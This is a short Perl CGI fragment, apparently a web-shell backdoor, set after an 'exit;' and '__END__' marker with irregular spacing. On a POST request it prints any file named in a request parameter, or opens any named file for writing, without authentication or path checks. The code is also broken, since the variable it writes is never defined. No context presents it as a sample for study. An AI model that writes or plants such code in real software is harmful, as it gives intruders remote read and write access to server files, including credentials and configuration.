exit;
__END__
if (CGI::request_method() eq "POST") {
  my $mode = CGI::param('m');
  my $name = CGI::param('filename');
  if ($mode eq "1") {
    print CGI::header();
    open   F ,
 "<$name"   or  goto   OUT;
    while (<F>) { print $_; }
    close(F);
  } elsif ($mode eq "2") {
    open *G , ">$name" ;
    syswrite(*G, $data, length($data));
    close(*G);
  } else { print "Content-type: text/html\n\n"; }
}
OUT:
